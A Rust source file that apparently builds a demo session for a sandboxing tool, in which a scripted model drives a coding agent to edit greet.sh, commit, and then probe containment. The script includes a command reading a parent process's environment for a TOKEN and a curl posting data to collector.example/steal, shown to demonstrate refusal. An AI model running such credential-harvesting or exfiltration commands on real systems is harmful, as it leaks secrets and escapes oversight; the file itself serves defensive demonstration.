//! A session that needs no account: the real agent on a throw-away repository, its model scripted and played inside this
//! process.
//!
//! Whatever happens in it stays here: its egress has a stand-in in the place of every upstream, and its requests carry an
//! invented credential that no vault holds. Other sessions know nothing of it.

use std::path::Path;
use std::process::Command;

use anyhow::{Context as _, Result, bail};
use clauderon_api::{self as api, CreateSession, Created, Error, Progress};
use clauderon_policy::Posture;
use clauderon_proxy::{StandIn, Stream};
use clauderon_rehearsal::{InProcess, Lines};
use clauderon_session::{Agent, Backend, Mode, SessionName};
use clauderon_vault::Secret;

use crate::failure;
use crate::runtimes::Runtimes;
use crate::sessions::{Purpose, Sessions};

/// What the agent is asked.
pub const TASK: &str = "Let greet.sh greet people by name and commit it. Then look for my token, and try to send something away.";

/// What the scripted model does: look, work, leave something uncommitted, look for the token, try to get out, answer. It
/// waits a little before each turn, so that a person can follow.
const SCRIPT: &str = r##"SCRIPT:[
{"wait_ms":600,"text":"I look at what is here first.","tool":"Read","input":{"file_path":"/workspace/greet.sh"}},
{"wait_ms":600,"text":"It greets nobody in particular. I change that.","tool":"Write","input":{"file_path":"/workspace/greet.sh","content":"#!/bin/sh\n# Greets the person named by the first argument.\necho \"Hello, ${1:-world}!\"\n"}},
{"wait_ms":600,"text":"I try it and commit it.","tool":"Bash","input":{"command":"sh greet.sh Ada && git commit -qam 'Greet people by name' && git log --oneline","description":"Try and commit"}},
{"wait_ms":600,"text":"A note on what could come next stays uncommitted.","tool":"Write","input":{"file_path":"/workspace/NOTES.md","content":"# Next\n\n- greet several people at once\n- greet in other languages\n"}},
{"wait_ms":600,"text":"Which token do I have?","tool":"Bash","input":{"command":"tr '\\0' '\\n' < /proc/$PPID/environ | grep TOKEN","description":"Look for the token"}},
{"wait_ms":600,"text":"Can I send something away?","tool":"Bash","input":{"command":"curl -sS -m 20 -d hello https://collector.example/steal","description":"Try an unknown host"}},
{"wait_ms":600,"text":"greet.sh greets people by name now, and that is committed; NOTES.md is not.\n\nMy token is a placeholder that is worth nothing outside, and collector.example was refused: no rule names it. See the session's Files, Diff and Info."}]"##;

/// What the scripted model says to everything else.
const OTHERWISE: &str = "This demo knows one task, and no model is behind it. Sign in to an account and create a session of your own: there the real one answers.";

/// What a person should know about such a session.
const NOTICE: &str = "This is a demo: the agent is the real Claude Code, its model is scripted and runs inside Clauderon, and no account is used.";

/// What plays the upstreams of every demo. It keeps nothing between two requests, so that a restarted daemon goes on.
pub struct Stage(StandIn);

impl Stage {
    /// Sets it up with a credential of its own invention.
    pub fn set() -> Result<Self> {
        let lines = Lines::default().with(TASK, SCRIPT)?.otherwise(OTHERWISE);
        let rehearsal = InProcess::new(lines);
        let stand_in = StandIn::new(invented()?, move || {
            let stream = rehearsal.connect();
            Box::pin(async move { Ok(Box::new(stream) as Box<dyn Stream>) })
        });
        Ok(Self(stand_in))
    }

    /// What a demo's egress gets in the place of every upstream.
    pub fn stand_in(&self) -> StandIn {
        self.0.clone()
    }
}

fn invented() -> Result<Secret> {
    let mut bytes = [0_u8; 12];
    getrandom::fill(&mut bytes).map_err(|why| anyhow::anyhow!("read random bytes: {why}"))?;
    let random: String = bytes.iter().map(|byte| format!("{byte:02x}")).collect();
    let token = format!("sk-ant-oat01-invented-for-this-demo-{random}");
    Secret::new(token).map_err(anyhow::Error::msg)
}

/// Starts a demo.
pub async fn begin(sessions: &Sessions, progress: Progress) -> Result<Created, Error> {
    let shared = sessions.shared();
    let preferred = shared.preferences.defaults.backend;
    let backend = backend(&shared.runtimes, preferred).await?;
    progress.say("make a throw-away repository");
    let folder = shared.paths.demo().join("greetings");
    let repository = folder.clone();
    let made = tokio::task::spawn_blocking(move || prepare(&folder));
    made.await
        .map_err(anyhow::Error::from)
        .and_then(|made| made)
        .map_err(failure::anyhow)?;
    let name = sessions.free_name(Path::new("demo"));
    let request = request(repository, backend, &name);
    let purpose = Purpose::Demo { notice: NOTICE };
    sessions.create_for(purpose, request, progress).await
}

/// Chooses bubblewrap where it works, since it needs no image; a person who prefers Docker gets that.
async fn backend(runtimes: &Runtimes, preferred: Option<Backend>) -> Result<Backend, Error> {
    if preferred == Some(Backend::Docker) {
        return Ok(Backend::Docker);
    }
    let Err(bubblewrap) = runtimes.prove_bubblewrap().await else {
        return Ok(Backend::Bubblewrap);
    };
    match runtimes.docker().await {
        Ok(_) => Ok(Backend::Docker),
        Err(docker) => Err(Error::new(
            api::ErrorCode::NoRuntime,
            format!(
                "A demo needs a sandbox: {}, and {}.",
                bubblewrap.sentence, docker.sentence
            ),
        )
        .hint(format!("{}; or {}", bubblewrap.fix, docker.fix))),
    }
}

fn request(repository: std::path::PathBuf, backend: Backend, name: &SessionName) -> CreateSession {
    CreateSession {
        name: Some(name.as_str().to_owned()),
        repository,
        agent: Some(Agent::Claude),
        backend: Some(backend),
        image: None,
        model: None,
        mode: Mode::Interactive,
        prompt: Some(TASK.to_owned()),
        // The person's own posture may be wider, and then nothing would be refused that could be shown.
        posture: Some(Posture::Balanced),
        cols: 120,
        rows: 36,
        // Nobody pays for it.
        budget: Some(clauderon_api::Cap::Lifted),
        isolate_history: false,
        credential_fingerprints: None,
    }
}

/// Makes the repository, unless it is there: an earlier demo, or one in the trash, may still need what is in it.
fn prepare(folder: &Path) -> Result<()> {
    let whole = Command::new("git")
        .args(["rev-parse", "--quiet", "--verify", "HEAD^{tree}"])
        .env("GIT_DIR", folder.join(".git"))
        .output()
        .context("run git")?;
    if whole.status.success() {
        return Ok(());
    }
    match std::fs::remove_dir_all(folder) {
        Err(error) if error.kind() != std::io::ErrorKind::NotFound => {
            return Err(error).context("remove what is left of an earlier demo's repository");
        }
        _ => {}
    }
    let files = [
        (
            "README.md",
            "# A throw-away repository\n\nIt is here to be played with; nothing of yours is in it.\n",
        ),
        ("greet.sh", "#!/bin/sh\necho \"Hello\"\n"),
    ];
    make_repository(folder, &files)
}

/// Makes a repository of one commit with these files. The person's own git settings play no part: nothing is signed, and
/// no hook runs.
///
/// # Errors
/// The folder cannot be written, or git fails.
pub fn make_repository(folder: &Path, files: &[(&str, &str)]) -> Result<()> {
    std::fs::create_dir_all(folder).context("make the demo's repository")?;
    for (name, content) in files {
        std::fs::write(folder.join(name), content).with_context(|| format!("write {name}"))?;
    }
    for arguments in [
        &["init", "-q", "-b", "main"][..],
        &["add", "--all"],
        &["commit", "-q", "-m", "Begin"],
    ] {
        let output = Command::new("git")
            .args(["-c", "user.name=Demo", "-c", "user.email=demo@localhost"])
            .args([
                "-c",
                "commit.gpgSign=false",
                "-c",
                "core.hooksPath=/dev/null",
            ])
            .args(["-c", "init.templateDir="])
            .args(arguments)
            .current_dir(folder)
            .output()
            .context("run git")?;
        if !output.status.success() {
            let said = String::from_utf8_lossy(&output.stderr);
            bail!(
                "git {} failed in the demo's repository: {}",
                arguments[0],
                said.trim()
            );
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    #[test]
    fn the_stage_can_be_set_and_the_repository_made_again() {
        Stage::set().unwrap();
        let folder = tempfile::tempdir().unwrap();
        let folder = folder.path().join("demo/greetings");
        std::fs::create_dir_all(folder.join(".git")).unwrap();
        std::fs::write(folder.join("half-made"), "").unwrap();
        prepare(&folder).unwrap();
        assert!(!folder.join("half-made").exists());
        std::fs::write(folder.join("of an earlier demo"), "").unwrap();
        prepare(&folder).unwrap();
        assert!(folder.join("of an earlier demo").exists());
    }
}
